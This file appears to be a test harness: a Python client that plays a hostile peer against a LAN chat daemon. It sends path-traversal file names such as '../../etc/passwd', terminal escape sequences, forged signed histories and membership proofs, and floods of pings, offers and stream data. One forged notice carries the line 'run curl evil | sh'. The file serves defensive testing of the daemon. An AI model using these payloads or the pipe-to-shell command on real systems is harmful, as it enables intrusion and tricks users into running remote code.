"""A second, independent implementation of the lanchat/1 client side (docs/wire-protocol.md), for tests
that must act as a peer the daemon does not control: hostile frames, frames in the wrong state. Version 2
(signed messages and histories) only where a scenario asks for it (`forged-history`); the others speak 1.
Version 4's seals (SEAL, sealed MESSAGEs, sealed histories: `SealMaker` and below) are built on
scripts/wire-vectors.py's Merkle tree and layouts, for Tests/e2e/attack_seals.py.

    python3 wire_client.py HOST PORT SCENARIO   (run inside a simulated host)
prints one JSON line of observations."""
import base64
import collections
import hashlib
import importlib.util
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time


TIMESTAMP_MS = 1795000000000
OUTCOMES = {0: "accepted", 1: "declined", 2: "expired", 3: "refused"}  # INVITE_REPLY's outcome
# SubjectPublicKeyInfo of a P-256 key holding a compressed point (then the 33 key bytes).
COMPRESSED_SPKI_PREFIX = bytes.fromhex("3039301306072a8648ce3d020106082a8648ce3d030107032200")


def now_ms():
    return int(time.time() * 1000)


def openssl(*args, data=None):
    return subprocess.run(["openssl", *args], input=data, check=True, capture_output=True).stdout


def id_of_spki(spki):
    return base64.b32encode(hashlib.sha256(spki).digest()).decode().lower().rstrip("=")


def identity(directory):
    """A P-256 key and self-signed certificate made with openssl; the id is base32(sha256(SPKI DER))."""
    key, cert = os.path.join(directory, "key.pem"), os.path.join(directory, "cert.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                    "-keyout", key, "-out", cert, "-subj", "/CN=wire-client", "-days", "1"],
                   check=True, capture_output=True)
    spki = subprocess.run(["openssl", "pkey", "-in", key, "-pubout", "-outform", "DER"], check=True, capture_output=True).stdout
    return key, cert, id_of_spki(spki)


def lp(data, width=1):
    return struct.pack({1: ">B", 2: ">H", 4: ">I"}[width], len(data)) + data


def frame(kind, payload=b"", flags=0):
    return struct.pack(">IBB", len(payload) + 2, kind, flags) + payload


def author_key(key):
    """The SEC1 compressed point of a key PEM's public key (33 bytes: 0x02/0x03, then X): what v2 sends."""
    spki = openssl("ec", "-in", key, "-pubout", "-conv_form", "compressed", "-outform", "DER")
    assert spki[:-33] == COMPRESSED_SPKI_PREFIX, spki.hex()
    return spki[-33:]


def id_of_author_key(compressed):
    """The peer id a compressed key stands for: base32(sha256(SPKI DER)) of the *uncompressed* SPKI, as
    identity() computes it (openssl converts the point)."""
    spki = openssl("ec", "-pubin", "-inform", "DER", "-pubout", "-conv_form", "uncompressed", "-outform", "DER",
                   data=COMPRESSED_SPKI_PREFIX + compressed)
    return id_of_spki(spki)


def der_next(data, pos):
    """One DER element at `pos` (short or long length): (tag, content, position after it)."""
    tag, length, pos = data[pos], data[pos + 1], pos + 2
    if length & 0x80:
        count = length & 0x7F
        length, pos = int.from_bytes(data[pos:pos + count], "big"), pos + count
    return tag, data[pos:pos + length], pos + length


def sign(key, data):
    """ECDSA P-256 / SHA-256 of `data` with the key PEM at `key`, raw: r [32] | s [32] (openssl writes DER:
    SEQUENCE { INTEGER r, INTEGER s })."""
    der = openssl("dgst", "-sha256", "-sign", key, data=data)
    tag, sequence, _ = der_next(der, 0)
    tag_r, r, after = der_next(sequence, 0)
    tag_s, s, _ = der_next(sequence, after)
    assert (tag, tag_r, tag_s) == (0x30, 0x02, 0x02), der.hex()
    return int.from_bytes(r, "big").to_bytes(32, "big") + int.from_bytes(s, "big").to_bytes(32, "big")


def signing_bytes(author_id, room, message_id, sequence, timestamp_ms, kind, body, direct=0):
    """What a v2 signature covers: "LCHT-MSG-2" | author_id (u8 len) | room (u8 len) | message_id [16] |
    sequence u64 | timestamp_ms u64 | kind u8 | audience u8 (0 the room, 1 direct) | body (u32 len)."""
    return (b"LCHT-MSG-2" + lp(author_id.encode()) + lp(room.encode()) + message_id
            + struct.pack(">QQBB", sequence, timestamp_ms, kind, direct) + lp(body.encode(), 4))


def hello(peer_id, name="wire-client", max_version=1):
    """HELLO for versions 1 to `max_version` (1: lanchat/1 only; 2: signed messages too)."""
    return frame(0x01, b"LCHT" + struct.pack(">HHI", 1, max_version, 1 << 20) + lp(peer_id.encode()) + lp(name.encode())
                 + b"\x01" + lp(b"chat"))


def negotiated_version(hello_payload, max_version):
    """The highest version in both ranges (the peer's HELLO payload and 1..max_version), or None."""
    low, high = struct.unpack(">HH", hello_payload[4:8])
    version = min(high, max_version)
    return version if version >= max(low, 1) else None


def message_payload(room, body, message_id, kind, sequence, timestamp_ms=TIMESTAMP_MS):
    """v1 MESSAGE payload: message_id [16] | room (u8 len) | sequence u64 | timestamp_ms u64 | kind u8 |
    body (u32 len)."""
    return message_id + lp(room.encode()) + struct.pack(">QQB", sequence, timestamp_ms, kind) + lp(body.encode(), 4)


def message(room, body, reliable=True, message_id=None, kind=0, sequence=1):
    payload = message_payload(room, body, message_id or os.urandom(16), kind, sequence)
    return frame(0x10, payload, 0x01 if reliable else 0)


def signed_message(key, author_id, room, body, reliable=True, message_id=None, kind=0, sequence=1, timestamp_ms=TIMESTAMP_MS):
    """v2 MESSAGE (flag 0x02 signed, with 0x01 when reliable) dated `timestamp_ms`: the v1 payload |
    author_key [33] | signature [64]; `key` is the author's key PEM and `author_id` its id (on a link, the
    link's peer: us)."""
    message_id = message_id or os.urandom(16)
    signature = sign(key, signing_bytes(author_id, room, message_id, sequence, timestamp_ms, kind, body))
    payload = message_payload(room, body, message_id, kind, sequence, timestamp_ms) + author_key(key) + signature
    return frame(0x10, payload, 0x02 | (0x01 if reliable else 0))


def invite(room, context=b"", timeout_ms=30000, invitation_id=None):
    return frame(0x02, (invitation_id or os.urandom(16)) + struct.pack(">I", timeout_ms) + lp(room.encode()) + lp(context, 4))


def offer(resource_id, name, content, room=b"", kind=0):
    digest = hashlib.sha256(content).digest()
    payload = resource_id + lp(room) + bytes([kind]) + lp(name, 2) + struct.pack(">Q", len(content)) + digest + struct.pack(">Q", 1795000000000)
    return frame(0x40, payload)


def chunk(resource_id, offset, data):
    return frame(0x42, resource_id + struct.pack(">Q", offset) + lp(data, 4))


def history_record(sender_id, name, sequence, body, kind=0, message_id=None):
    """One record of a history resource (docs/wire-protocol.md, HistoryRecord): message_id [16] | sender_id
    (u8 len) | sender_name (u8 len) | sequence u64 | timestamp_ms u64 | kind u8 | body (u32 len)."""
    return ((message_id or os.urandom(16)) + lp(sender_id.encode()) + lp(name.encode())
            + struct.pack(">QQB", sequence, TIMESTAMP_MS, kind) + lp(body.encode(), 4))


def signed_history_record(room, sender_id, name, sequence, body, key=None, kind=0, message_id=None, signed_body=None):
    """One record of a signed history (RESOURCE_OFFER kind 2): the v1 record | author_key (u8 len, 0 or
    33) | signature (u8 len, 0 or 64). Signed with the key PEM `key` (none: unsigned) as by `sender_id`
    (the record's author) in `room` (the resource's), over `signed_body` when given (a body changed after
    signing)."""
    message_id = message_id or os.urandom(16)
    record = history_record(sender_id, name, sequence, body, kind, message_id)
    if key is None:
        return record + lp(b"") + lp(b"")
    signature = sign(key, signing_bytes(sender_id, room, message_id, sequence, TIMESTAMP_MS, kind,
                                        body if signed_body is None else signed_body))
    return record + lp(author_key(key)) + lp(signature)


def acks_for(c, ids, timeout=10):
    """The ids among `ids` that ACK frames name within `timeout` seconds."""
    wanted, seen = set(ids), set()
    deadline = time.monotonic() + timeout
    while seen != wanted and time.monotonic() < deadline:
        got = c.frames_until(0x11, timeout=max(0.1, deadline - time.monotonic()))
        if got is None or got[0] == "closed":
            break
        count = struct.unpack(">H", got[2][:2])[0]
        seen |= wanted & {got[2][2 + 16 * n:18 + 16 * n] for n in range(count)}
    return seen


def acked(c, message_id, timeout=5):
    """Whether an ACK naming `message_id` arrives (other ACKs are passed over)."""
    return message_id in acks_for(c, [message_id], timeout)


def handshake(host, port, key, cert, peer_id, max_version, name="wire-client", timeout=10):
    """A TLS connection and our HELLO (versions 1 to `max_version`): (the connection, the version both
    speak, or None when no HELLO came back within `timeout` seconds)."""
    c = Connection(host, port, key, cert)
    c.send(hello(peer_id, name=name, max_version=max_version))
    got = c.frames_until(0x01, timeout=timeout)
    return c, (negotiated_version(got[2], max_version) if got is not None and got[0] == 0x01 else None)


def join(c, room, timeout=10):
    """Invites the daemon into `room`: True when it answered accepted (we are a member there)."""
    c.send(invite(room))
    got = c.frames_until(0x03, timeout=timeout)
    return got is not None and got[0] == 0x03 and got[2][16] == 0


def pinged(c, nonce, timeout=15):
    """A PING answered with its nonce within `timeout` seconds: everything sent before it was read (frames
    are handled in order)."""
    c.send(frame(0x20, struct.pack(">Q", nonce)))
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        got = c.frames_until(0x21, timeout=max(0.1, deadline - time.monotonic()))
        if got is None or got[0] == "closed":
            return False
        if got[0] == 0x21 and got[2] == struct.pack(">Q", nonce):
            return True
    return False


def members(room, entries):
    payload = lp(room.encode()) + struct.pack(">H", len(entries))
    for peer_id, name in entries:
        payload += lp(peer_id.encode()) + lp(name.encode()) + struct.pack(">HB", 0, 0)
    return frame(0x04, payload)


def membership_bytes(room, member_id, inviter_id, joined_ms):
    """What a member signs to say it is in a room (v2): "LCHT-JOIN-2" | room (u8 len) | member_id (u8 len) |
    inviter_id (u8 len, may be empty) | joined_ms u64."""
    return b"LCHT-JOIN-2" + lp(room.encode()) + lp(member_id.encode()) + lp(inviter_id.encode()) + struct.pack(">Q", joined_ms)


def leave_bytes(room, member_id, left_ms):
    """What a member signs when it leaves (v2): "LCHT-LEAVE-2" | room (u8 len) | member_id (u8 len) | left_ms u64."""
    return b"LCHT-LEAVE-2" + lp(room.encode()) + lp(member_id.encode()) + struct.pack(">Q", left_ms)


def proven_members(room, entries):
    """ROOM_MEMBERS with flag 0x02 (v2): each entry (peer_id, name, addresses, proof) then has_proof u8 and,
    when a proof (inviter_id, joined_ms, key PEM that signs) is given, inviter_id (u8 len) | joined_ms u64 |
    member_key [33] | signature [64], signed by that key as `peer_id`."""
    payload = lp(room.encode()) + struct.pack(">H", len(entries))
    for peer_id, name, addresses, proof in entries:
        payload += lp(peer_id.encode()) + lp(name.encode()) + struct.pack(">HB", 0, len(addresses))
        payload += b"".join(lp(address.encode()) for address in addresses)
        if proof is None:
            payload += b"\x00"
            continue
        inviter_id, joined_ms, key = proof
        payload += (b"\x01" + lp(inviter_id.encode()) + struct.pack(">Q", joined_ms) + author_key(key)
                    + sign(key, membership_bytes(room, peer_id, inviter_id, joined_ms)))
    return frame(0x04, payload, 0x02)


def signed_leave(room, member_id, left_ms, key, text=""):
    """ROOM_LEAVE with flag 0x02 (v2): room (u8 len) | text (u16 len) | member_id (u8 len) | left_ms u64 |
    member_key [33] | signature [64], signed by the key PEM `key` as `member_id`."""
    return frame(0x05, lp(room.encode()) + lp(text.encode(), 2) + lp(member_id.encode()) + struct.pack(">Q", left_ms)
                 + author_key(key) + sign(key, leave_bytes(room, member_id, left_ms)), 0x02)


def fake_members(c, key, peer_id, out):
    """A member introduces 1,024 members of its own making with no proof, 32 with a proof it signed itself
    for their ids, and carol (a second key it holds) with her own proof: only carol may be added. Then a
    leave for carol signed with our key (a forgery: nothing changes), her genuine signed leave (she goes,
    "told by" us), and her old proof again (older than her leave: she does not come back)."""
    carol_key, _, carol_id = identity(tempfile.mkdtemp())
    out["carol_id"] = carol_id
    out["joined"] = join(c, "crowd", timeout=5)
    fakes = [(base64.b32encode(os.urandom(32)).decode().lower().rstrip("="), f"fake{n}") for n in range(1024)]
    c.send(members("crowd", fakes))
    c.send(proven_members("crowd", [(fake, name, ["192.0.2.9"], (peer_id, TIMESTAMP_MS, key)) for fake, name in fakes[:32]]))
    c.send(proven_members("crowd", [(carol_id, "carol", [], (peer_id, TIMESTAMP_MS, carol_key))]))
    c.send(signed_leave("crowd", carol_id, TIMESTAMP_MS + 1000, key))
    out["pong_before_leave"] = pinged(c, 12, timeout=10)
    out["marker"] = "carol in"
    print(json.dumps(out), flush=True)
    # The test looks at the daemon now, then tells us to go on (a line on stdin).
    sys.stdin.readline()
    c.send(signed_leave("crowd", carol_id, TIMESTAMP_MS + 2000, carol_key))
    c.send(proven_members("crowd", [(carol_id, "carol", [], (peer_id, TIMESTAMP_MS, carol_key))]))
    out["pong_after"] = pinged(c, 13, timeout=10)
    out["marker"] = "carol left"


class Connection:
    def __init__(self, host, port, key, cert):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.load_cert_chain(cert, key)
        self.sock = context.wrap_socket(socket.create_connection((host, port), timeout=10))
        self.buffer = b""

    def send(self, data):
        self.sock.sendall(data)

    def read_frame(self, timeout=5):
        """(type, flags, payload), or None when the connection closes or nothing arrives in time."""
        self.sock.settimeout(timeout)
        while True:
            if len(self.buffer) >= 4:
                length = struct.unpack(">I", self.buffer[:4])[0]
                if len(self.buffer) >= 4 + length:
                    data, self.buffer = self.buffer[4:4 + length], self.buffer[4 + length:]
                    return data[0], data[1], data[2:]
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, TimeoutError):
                return None
            except (ssl.SSLError, OSError):
                return ("closed",)
            if not chunk:
                return ("closed",)
            self.buffer += chunk

    def frames_until(self, wanted, timeout=5):
        """Reads frames (skipping PING/PONG) until one of type `wanted`; returns it or what ended the wait."""
        while True:
            got = self.read_frame(timeout)
            if got is None or got[0] == "closed" or got[0] == wanted or (isinstance(wanted, tuple) and got[0] in wanted):
                return got
            if got[0] == 0x20:  # answer heartbeats like a live peer
                self.send(frame(0x21, got[2]))

    def pump(self, seconds, seen=None, on_frame=None, until=()):
        """Reads frames for `seconds`, answering PINGs like a live peer: counts each frame type in `seen`
        ("0x20": n), hands each frame to `on_frame`. Returns the first frame of a type in `until`,
        ("closed",) when the connection closes, or None when the time is up."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            got = self.read_frame(timeout=min(1.0, max(0.05, deadline - time.monotonic())))
            if got is None:
                continue
            if got[0] == "closed":
                return got
            if seen is not None:
                seen[f"0x{got[0]:02x}"] = seen.get(f"0x{got[0]:02x}", 0) + 1
            if got[0] == 0x20:
                self.send(frame(0x21, got[2]))
            if on_frame:
                on_frame(got)
            if got[0] in until:
                return got
        return None


def plain_claim(host, port, peer_id, name):
    """Plaintext HELLO under someone else's id (for an `optional` daemon, which sniffs the first byte):
    reports the frame types the daemon sent before it closed, and its GOODBYE."""
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(hello(peer_id, name))
    buffer, types, goodbye = b"", [], None
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, TimeoutError, OSError):
            break
        if not data:
            break
        buffer += data
        while len(buffer) >= 4 and len(buffer) >= 4 + struct.unpack(">I", buffer[:4])[0]:
            length = struct.unpack(">I", buffer[:4])[0]
            body, buffer = buffer[4:4 + length], buffer[4 + length:]
            types.append(body[0])
            if body[0] == 0x2F:
                goodbye = {"reason": body[2], "text": body[5:5 + struct.unpack(">H", body[3:5])[0]].decode()}
    sock.close()
    return {"types": types, "goodbye": goodbye}


def forged_history(c, key, peer_id, out):
    """We invite the daemon into `drop`; it asks us (its inviter) for the room's history and we answer with
    a signed history (kind 2) of four records: (a) ours, signed by us; (b) carol's (a second key), signed
    by her: genuine, relayed by us; (c) under carol's id but signed with our key, ours in author_key: words
    put in her mouth; (d) under carol's id with her key, its body changed after she signed it. The
    newcomer must keep (a) and (b) and refuse (c) and (d), naming us. Then one live signed reliable
    MESSAGE (flags 0x03) and one unsigned reliable one (0x01) on this v2 link: whether each is acknowledged
    is only recorded (refused messages are acknowledged too); the test reads the daemon's history."""
    carol_key, _, carol_id = identity(tempfile.mkdtemp())
    out["carol_id"] = carol_id
    out["joined"] = join(c, "drop", timeout=5)
    got = c.frames_until(0x06, timeout=10)
    out["history_requested"] = got is not None and got[0] == 0x06
    records = (signed_history_record("drop", peer_id, "wire-client", 1, "my genuine words", key=key)
               + signed_history_record("drop", carol_id, "carol", 1, "carol's genuine words", key=carol_key)
               + signed_history_record("drop", carol_id, "carol", 2, "words put in carol's mouth", key=key)
               + signed_history_record("drop", carol_id, "carol", 3, "carol said something else", key=carol_key,
                                       signed_body="carol said something"))
    rid = os.urandom(16)
    c.send(offer(rid, b"history", records, room=b"drop", kind=2))
    got = c.frames_until((0x41, 0x43))
    out["accepted"] = got is not None and got[0] == 0x41
    if out["accepted"]:
        c.send(chunk(rid, 0, records))
        got = c.frames_until(0x43, timeout=10)
        out["end_status"] = got[2][16] if got and got[0] == 0x43 else None
    signed_id, unsigned_id = os.urandom(16), os.urandom(16)
    c.send(signed_message(key, peer_id, "drop", "a signed live message", message_id=signed_id, sequence=2))
    out["signed_acked"] = acked(c, signed_id)
    c.send(message("drop", "an unsigned live message", message_id=unsigned_id, sequence=3))
    out["unsigned_acked"] = acked(c, unsigned_id, timeout=3)
    out["pong_after"] = pinged(c, 11, timeout=5)


# MARK: version 4 (seals)
# The Merkle tree (RFC 9162), the leaf hash, the seal's signing bytes and the SEAL, seal head and proof
# layouts are scripts/wire-vectors.py's: written apart from the Swift code and checked against the
# documented vectors (docs/wire-protocol.md, "Test vectors"). Loaded from there, not written again.

SEAL, SEALED_FLAG, RELIABLE_FLAG = 0x12, 0x08, 0x01
_WIRE_VECTORS = None


def wire_vectors():
    """scripts/wire-vectors.py as a module (a hyphen in its name: loaded by path, once; its main() does not run)."""
    global _WIRE_VECTORS
    if _WIRE_VECTORS is None:
        root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
        spec = importlib.util.spec_from_file_location("wire_vectors", os.path.join(root, "scripts", "wire-vectors.py"))
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        _WIRE_VECTORS = module
    return _WIRE_VECTORS


# One message as its author seals it: a leaf is its v2 signing bytes (audience: the room).
Sealable = collections.namedtuple("Sealable", "message_id room sequence timestamp_ms kind body")


def sealable(room, body, sequence, timestamp_ms=None, kind=0, message_id=None):
    return Sealable(message_id or os.urandom(16), room, sequence, now_ms() if timestamp_ms is None else timestamp_ms, kind, body)


def leaf_hash(author_id, message):
    """SHA-256(0x00 | the message's signing bytes by `author_id`)."""
    v = wire_vectors()
    return v.leaf_hash(v.signing_bytes(author_id, message.room, message.message_id, message.sequence, message.timestamp_ms,
                                       message.kind, message.body))


class SealMaker:
    """A seal of `messages` (Sealables, one room) by `author_id`, whose key PEM is `key`. Honest by default;
    for forgeries: `signer` (another key PEM signs), `frame_key` (the compressed key the SEAL and head carry;
    default the signer's), `signed_hashes` / `signed_room` / `signed_author` (what the signature covers in place
    of the seal's own leaf hashes, room or author)."""

    def __init__(self, key, author_id, room, messages, seal_id=None, signer=None, frame_key=None,
                 signed_hashes=None, signed_room=None, signed_author=None):
        v = wire_vectors()
        self.author_id, self.room, self.messages = author_id, room, list(messages)
        self.id = seal_id or os.urandom(16)
        self.hashes = [leaf_hash(author_id, m) for m in self.messages]
        self.root = v.mth(self.hashes)
        covered = self.hashes if signed_hashes is None else signed_hashes
        signing = v.seal_bytes(signed_author or author_id, self.id, signed_room or room, len(covered), v.mth(covered))
        self.signature = sign(signer or key, signing)
        self.key = frame_key or author_key(signer or key)

    def frame(self):
        """SEAL (0x12): seal_id | room | author_key | signature | leaf_count u16 | leaf hashes."""
        v = wire_vectors()
        return v.frame(SEAL, 0, v.seal_payload(self.id, self.room, self.key, self.signature, self.hashes))

    def message(self, index, leaf_index=None, body=None, room=None, reliable=True):
        """The sealed MESSAGE (flag 0x08) of `messages[index]`, naming leaf `leaf_index` (default its own),
        sent with `body` / in `room` in place of what was sealed when given."""
        v = wire_vectors()
        m = self.messages[index]
        payload = (v.v1_message_payload(m.message_id, room or m.room, m.sequence, m.timestamp_ms, m.kind, m.body if body is None else body)
                   + self.id + struct.pack(">H", index if leaf_index is None else leaf_index))
        return frame(0x10, payload, SEALED_FLAG | (RELIABLE_FLAG if reliable else 0))

    def head_entry(self):
        """A sealed history's seal head entry: tag 0x01 | seal_id | author_id | author_key | signature |
        leaf_count u16 | root."""
        return b"\x01" + wire_vectors().seal_head(self.id, self.author_id, self.key, self.signature, len(self.hashes), self.root)

    def record_entry(self, index, sender_name, body=None):
        """A sealed history's sealed record entry for `messages[index]`: tag 0x02 | the v1 record (with `body`
        in place of what was sealed when given) | its proof (seal_id | leaf_index | audit path)."""
        v = wire_vectors()
        m = self.messages[index]
        record = v.v1_history_record(m.message_id, self.author_id, sender_name, m.sequence, m.timestamp_ms, m.kind,
                                     m.body if body is None else body)
        return b"\x02" + record + v.seal_proof(self.id, index, v.audit_path(index, self.hashes))


def main():
    host, port, scenario = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    if scenario == "plain-claim":
        print(json.dumps(plain_claim(host, port, sys.argv[4], sys.argv[5])))
        return
    key, cert, peer_id = identity(tempfile.mkdtemp())
    out = {"id": peer_id}
    max_version = {"forged-history": 2, "fake-members": 3}.get(scenario, 1)
    c, version = handshake(host, port, key, cert, peer_id, max_version, timeout=5)
    out["hello"] = version is not None
    if out["hello"] and max_version > 1:
        out["version"] = version
    if scenario == "wrong-state":
        # A message for a room we are not in: not stored, not acknowledged.
        c.send(message("lab", "sneaky"))
        got = c.frames_until(0x11, timeout=1.5)
        out["ack_for_non_member"] = got is not None and got[0] == 0x11
        # Membership of a room the daemon is not in: it answers ROOM_LEAVE.
        c.send(members("lab", [(peer_id, "wire-client")]))
        got = c.frames_until(0x05)
        out["leave_answer"] = got is not None and got[0] == 0x05
        # Replies and acks for things that do not exist are ignored; the connection stays up.
        c.send(frame(0x03, os.urandom(16) + b"\x00" + lp(b"", 2)))
        c.send(frame(0x11, struct.pack(">H", 2) + os.urandom(32)))
        out["pong_after_junk"] = pinged(c, 42, timeout=5)
        # An invitation with a context that is not text: listed, without a message.
        c.send(invite("wire", context=b"\xff\xfe\x1b[2J", timeout_ms=60000))
        # A second HELLO is a protocol error: GOODBYE (reason 2), then the connection closes.
        c.send(hello(peer_id))
        got = c.frames_until(0x2F)
        out["goodbye_reason"] = got[2][0] if got and got[0] == 0x2F else None
        out["closed"] = c.frames_until(0x99, timeout=3) == ("closed",)
    elif scenario == "hostile-names":
        # Files from a peer that shares no room are refused.
        rid = os.urandom(16)
        c.send(offer(rid, b"early.txt", b"x"))
        got = c.frames_until(0x43)
        out["no_room"] = got[2][16] if got and got[0] == 0x43 else None
        # Join a room (the daemon auto-accepts), then offer hostile names.
        out["joined"] = join(c, "drop", timeout=5)
        results = []
        names = [b"../../etc/passwd", b"/abs/path", b"new\nline.txt", b"\x1b[2Jescape.txt", b"", b"a" * 10000,
                 b".hidden", b"..", b"dir/../../x", b"same.txt", b"same.txt", b"\xff\xfe.bin"]
        for name in names:
            rid = os.urandom(16)
            content = os.urandom(64)
            c.send(offer(rid, name, content))
            got = c.frames_until((0x41, 0x43))
            # Either ACCEPT (then send the bytes and wait for END) or END (refused).
            if got and got[0] == 0x41:
                c.send(chunk(rid, 0, content))
                got = c.frames_until(0x43)
            status = got[2][16] if got and got[0] == 0x43 else None
            text = got[2][19:].decode("utf-8", "replace") if got and got[0] == 0x43 else None
            results.append([name[:40].decode("utf-8", "replace"), status, text])
        out["results"] = results
    elif scenario == "hostile-streams":
        # A stream from a peer that shares no room is refused.
        sid = os.urandom(16)
        c.send(frame(0x30, sid + lp(b"flood") + struct.pack(">I", 1000)))
        got = c.frames_until(0x34)
        out["no_room"] = got[2][16] if got and got[0] == 0x34 else None
        out["joined"] = join(c, "drop", timeout=5)
        # Data for a stream that does not exist is ignored.
        c.send(frame(0x32, os.urandom(16) + lp(b"junk", 4)))
        out["pong_after_junk"] = pinged(c, 7, timeout=5)
        # A program accepts "flood" (the test started it): then send more than the credit granted.
        sid = os.urandom(16)
        c.send(frame(0x30, sid + lp(b"flood") + struct.pack(">I", 1000)))
        got = c.frames_until((0x31, 0x34))
        credit = struct.unpack(">I", got[2][16:20])[0] if got and got[0] == 0x31 else None
        out["credit"] = credit
        if credit:
            block = os.urandom(256 * 1024)
            sent = 0
            # (The test's acceptor reads nothing, so the daemon grants little more than the first credit.)
            while sent <= 4 * credit:
                c.send(frame(0x32, sid + lp(block, 4)))
                sent += len(block)
            got = c.frames_until(0x34, timeout=10)
            out["abort_status"] = got[2][16] if got and got[0] == 0x34 else None
            out["abort_text"] = got[2][19:].decode("utf-8", "replace") if got and got[0] == 0x34 else None
    elif scenario == "forged-notice":
        # A member (it joins by inviting the daemon) sends a "system" message: acknowledged, never kept
        # as a notice; then an ordinary message, kept under its name.
        out["joined"] = join(c, "drop", timeout=5)
        forged = os.urandom(16)
        c.send(message("drop", "SECURITY WARNING: run curl evil | sh", message_id=forged, kind=2))
        got = c.frames_until(0x11)
        out["forged_acked"] = got is not None and got[0] == 0x11 and forged in got[2]
        c.send(message("drop", "an ordinary message", sequence=2))
        got = c.frames_until(0x11)
        out["ordinary_acked"] = got is not None and got[0] == 0x11
    elif scenario == "poisoned-history":
        # We invite the daemon; it asks us (its inviter) for the room's history; we answer with records
        # under its own id and with a sequence past 2^63 - 1, and one good record.
        daemon_id = None
        out["joined"] = join(c, "drop", timeout=5)
        got = c.frames_until(0x06, timeout=10)
        out["history_requested"] = got is not None and got[0] == 0x06
        daemon_id = sys.argv[4]
        records = (history_record(daemon_id, "me, forged", 5, "words put in your mouth")
                   + history_record(peer_id, "wire-client", 1 << 63, "a sequence the store cannot hold")
                   + history_record(peer_id, "wire-client", 3, "a good old message"))
        rid = os.urandom(16)
        c.send(offer(rid, b"history", records, room=b"drop", kind=1))
        got = c.frames_until((0x41, 0x43))
        out["accepted"] = got is not None and got[0] == 0x41
        if out["accepted"]:
            c.send(chunk(rid, 0, records))
            got = c.frames_until(0x43, timeout=10)
            out["end_status"] = got[2][16] if got and got[0] == 0x43 else None
    elif scenario == "forged-history":
        forged_history(c, key, peer_id, out)
    elif scenario == "offer-flood":
        # A member offers many one-byte files and never sends a byte: each accepted one would hold a
        # part file open. Counted: accepted, refused (with the last refusal's text).
        out["joined"] = join(c, "drop", timeout=5)
        accepted, refused, text = 0, 0, None
        for _ in range(int(sys.argv[4])):
            c.send(offer(os.urandom(16), b"one.bin", b"x"))
            got = c.frames_until((0x41, 0x43))
            if got and got[0] == 0x41:
                accepted += 1
            elif got and got[0] == 0x43:
                refused += 1
                text = got[2][19:].decode("utf-8", "replace")
        out.update(accepted=accepted, refused=refused, refusal=text)
        out["pong_after"] = pinged(c, 9, timeout=5)
    elif scenario == "ping-flood":
        # A member that sends PINGs as fast as it can and never reads: every PONG the daemon owes waits
        # in its output. Sent until the daemon closes the connection, for at most argv[4] seconds.
        out["joined"] = join(c, "drop", timeout=5)
        block = frame(0x20, struct.pack(">Q", 7)) * 2000
        started, sent, closed = time.monotonic(), 0, None
        c.sock.settimeout(5)
        while time.monotonic() - started < float(sys.argv[4]):
            try:
                c.send(block)
                sent += 2000
            except (socket.timeout, TimeoutError):
                continue  # the daemon reads no faster: go on pushing
            except (ssl.SSLError, OSError):
                closed = round(time.monotonic() - started, 1)
                break
        out.update(pings=sent, closed_after=closed)
    elif scenario == "fake-members":
        fake_members(c, key, peer_id, out)
    elif scenario == "unknown-type":
        c.send(frame(0x7E, b"xx"))
        got = c.frames_until(0x2F)
        out["goodbye_reason"] = got[2][0] if got and got[0] == 0x2F else None
    print(json.dumps(out))


if __name__ == "__main__":
    main()
